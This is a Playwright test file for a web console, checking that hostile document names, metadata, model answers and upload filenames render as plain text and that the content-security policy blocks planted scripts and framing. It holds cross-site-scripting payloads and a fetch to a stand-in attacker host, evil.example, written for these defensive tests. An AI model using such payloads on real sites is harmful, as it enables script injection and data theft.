"""Whatever users, documents and models write stays text, and a script that got in would not run."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.console.hostile import SEEDS, texts
from tests.console.house import MODEL
from tests.console.visitor import Visitor
from tests.support.answering import Desk
from tests.support.openai_server import OpenAiServer
from tests.support.waiting import until

pytestmark = pytest.mark.slow

DOCUMENTS = 200
_PLACES = "rows => rows.map((row) => row.getAttribute('aria-rowindex'))"


@pytest.fixture(scope="module")
def hostile(desk: Desk) -> str:
    """A collection of hostile documents, of which everything is hostile that may be; its description is, too."""
    name = "hostile"
    client = desk.client
    about = {"name": name, "description": SEEDS[0], "metadata": {"x": SEEDS[1]}}
    client.post("/v1/collections", json=about).raise_for_status()
    documents = [
        {"title": text, "content": f"The harbour of number {number}. {text}", "metadata": {"kind": text}}
        for number, text in enumerate(texts(DOCUMENTS))
    ]
    for begin in range(0, DOCUMENTS, 100):  # as many as one request takes
        some = documents[begin : begin + 100]
        accepted = client.post("/v1/ingest", json={"collection": name, "documents": some})
        assert accepted.status_code == 202, accepted.text
    path = f"/v1/collections/{name}"
    until(lambda: client.get(path).json()["documents"] == DOCUMENTS, "hostile documents are ready", 240)
    for seed in SEEDS[:8]:
        client.post("/v1/admin/keys", json={"name": seed}).raise_for_status()
        client.post("/v1/admin/users", json={"name": seed, "groups": [seed]}).raise_for_status()
        client.post("/v1/admin/teams", json={"name": seed}).raise_for_status()
        client.post("/v1/conversations", json={"title": seed}).raise_for_status()
    return name


def harmless(one: Visitor, where: str) -> None:
    assert one.ran() == 0, where
    assert one.foreign() == [], where
    assert one.violations() == [], where  # nothing even tried


def test_hostile_documents_names_and_metadata_are_shown_as_text(
    admin: Visitor, hostile: str, figure: Callable[[str], None]
) -> None:
    admin.go("documents", "Documents")
    expect(admin.page.locator(".collection").filter(has_text=SEEDS[0])).to_be_visible()
    harmless(admin, "collections")
    admin.go(f"documents/{hostile}", hostile)
    seen: set[str] = set()
    scroller = admin.page.locator(".list-scroller")

    def all_were_shown() -> bool:
        seen.update(scroller.locator(".list-body .list-row").evaluate_all(_PLACES))  # of two, the names may be equal
        # Again and again from the beginning: what was drawn between two looks was not seen.
        scroller.evaluate(
            "one => { one.scrollTop = (one.scrollTop + one.clientHeight / 3) % (one.scrollHeight - one.clientHeight); }"
        )
        return len(seen) >= DOCUMENTS

    until(all_were_shown, "every document has been in sight", 120)
    assert len(seen) == DOCUMENTS
    harmless(admin, "documents")
    admin.go(f"documents/{hostile}/search", hostile)
    admin.page.reload()
    admin.page.get_by_label("Count values of").fill("kind")
    admin.page.get_by_role("searchbox", name="Search").fill("harbour number")
    admin.page.keyboard.press("Enter")
    expect(admin.page.locator(".hit")).to_have_count(20)
    expect(admin.page.locator(".facet").first).to_be_visible()
    harmless(admin, "search")
    for at in range(5):
        admin.page.locator(".hit-head button").nth(at).click()
        expect(admin.page.locator("dialog mark")).to_be_visible()
        harmless(admin, "reader")
        admin.page.keyboard.press("Escape")
    figure(f"{len(seen)} hostile documents listed, 20 found, 5 read: {admin.ran()} scripts ran, 0 elements of theirs")


def test_what_a_hostile_model_says_is_shown_as_text(
    admin: Visitor, hostile: str, model: OpenAiServer, figure: Callable[[str], None]
) -> None:
    before = model.script
    asked = 0
    try:
        for documents in ("", hostile):
            for seed in SEEDS:
                model.script = lambda *_, seed=seed: seed
                admin.go("chat/new", "Chat")
                expect(admin.page.locator("article")).to_have_count(0)
                admin.ask(f"What of the harbour of number {asked}? {seed}"[:300], documents=documents, model=MODEL)
                admin.answer()
                harmless(admin, seed)
                asked += 1
    finally:
        model.script = before
    figure(f"{asked} hostile answers: {admin.ran()} scripts ran")


@pytest.mark.parametrize("place", ["keys", "keys/users", "keys/teams", "keys/budgets", "keys/audit", "usage", "chat"])
def test_hostile_names_of_keys_people_and_talks_are_shown_as_text(admin: Visitor, hostile: str, place: str) -> None:
    admin.go(place)
    admin.page.get_by_role("heading", level=1).wait_for(state="attached")
    if place not in ("usage", "keys/audit"):  # which name nobody who used nothing, and ids alone
        until(lambda: "alert(1)" in admin.page.locator("main").inner_text(), f"{place} names them", 30)
    harmless(admin, place)


def test_a_hostile_upload_that_fails_is_told_as_text(
    admin: Visitor, hostile: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    admin.go(f"documents/{hostile}", hostile)
    name = "<img src=x onerror=alert(1)>.txt"
    admin.page.get_by_label("Choose files").set_input_files({"name": name, "mimeType": "text/plain", "buffer": b" "})
    expect(admin.page.locator(".upload").filter(has_text="onerror").get_by_role("alert")).to_be_visible()
    harmless(admin, "upload")


PLANTED: dict[str, str] = {
    "a script in the page": "document.head.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))",
    "markup of a text": "document.querySelector('main').innerHTML = '<img src=x onerror=alert(1)>'",
    "a handler": (
        "const main = document.querySelector('main'); main.setAttribute('onclick', 'alert(1)'); main.click()"
    ),
    "a text that is run": "setTimeout('alert(1)', 0)",
    "a script of another host": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/a.js'}))"
    ),
    "a frame of data": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'data:text/html,<p>'}))"
    ),
    "a style": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'p{color:red}'}))",
    "what is sent elsewhere": "fetch('https://evil.example/?k=1').catch(() => {})",
    "an image of another host": (
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/a.png'}))"
    ),
}


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_in_the_page_is_blocked_by_the_policy(admin: Visitor, what: str) -> None:
    expect(admin.page.get_by_role("heading", name="Welcome")).to_be_visible()
    asked: list[str] = []
    admin.page.on("request", lambda request: asked.append(request.url) if "evil" in request.url else None)
    admin.page.evaluate(f"() => {{ try {{ {PLANTED[what]}; }} catch {{ /* it was refused */ }} }}")
    until(lambda: admin.violations(), f"the policy blocks {what}", 30)
    assert admin.ran() == 0
    assert not [url for url in asked if not url.startswith(admin.url)] or what.startswith(("a script of", "an image"))


def test_no_page_shows_it_in_a_frame(someone: Callable[..., Visitor], desk: Desk) -> None:
    one = someone(None)
    framing = f"<iframe src='{desk.gate.url}/'></iframe>"
    one.page.route("http://framer.example/", lambda route: route.fulfill(body=framing, content_type="text/html"))
    one.page.goto("http://framer.example/")
    frames: list[Any] = [frame for frame in one.page.frames if frame != one.page.main_frame]
    until(lambda: all("API key" not in frame.content() for frame in frames), "the frame stays empty")
    assert frames
